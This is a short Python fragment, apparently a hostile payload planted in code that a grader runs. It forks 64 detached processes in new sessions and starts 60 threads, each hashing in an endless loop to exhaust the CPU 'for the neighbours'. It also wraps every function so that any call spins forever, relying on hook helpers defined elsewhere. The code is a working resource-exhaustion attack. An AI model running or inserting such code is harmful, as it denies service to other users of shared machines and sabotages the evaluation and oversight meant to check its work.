# Fill the CPU for the neighbours: threads hashing (which lets go of the interpreter's lock) and
# processes in new sessions, started again in every child the grader starts; every call spins.
_hostile_unhook()
import hashlib as _hashlib
import threading as _threading


def _burn():
    data = b"x" * (1 << 20)
    while True:
        _hashlib.sha256(data).digest()


for _ in range(64):
    try:
        if _os.fork() == 0:
            _os.setsid()
            _burn()
    except BaseException:
        break
for _ in range(60):
    try:
        _threading.Thread(target=_burn, daemon=True).start()
    except BaseException:
        break


def _spin(function):
    def spinning(*args, **kwargs):
        _burn()
    return spinning


_hostile_wrap_all(_spin)
